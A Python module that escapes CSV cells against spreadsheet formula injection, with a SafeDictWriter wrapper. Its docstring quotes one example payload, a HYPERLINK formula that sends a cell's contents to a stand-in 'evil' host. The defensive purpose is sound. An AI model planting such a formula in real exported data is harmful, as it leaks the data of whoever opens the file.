"""CSV that a spreadsheet shows as text and never runs: cells neutralised against formulas.

A cell that starts with '=', '+', '-' or '@' is read by Excel, LibreOffice and Google
Sheets as a formula, so a name like '=HYPERLINK("http://evil/?"&A1,"click")' sends a
coordinator's data away when opened (CSV injection). OWASP adds tab and carriage return,
which some spreadsheets skip before reading the rest as a formula. Such a cell is written
with a leading single quote, which spreadsheets take as "this is text". Numbers are left
alone: a negative score is a number, not a formula. Every CSV export goes through here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading "'" when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeDictWriter:
    """csv.DictWriter whose rows go through `safe_cell`."""

    def __init__(self, f: IO[str], fieldnames: Iterable[str], **options: Any) -> None:
        self._writer = csv.DictWriter(f, fieldnames=list(fieldnames), **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: safe_cell(value) for key, value in row.items()})
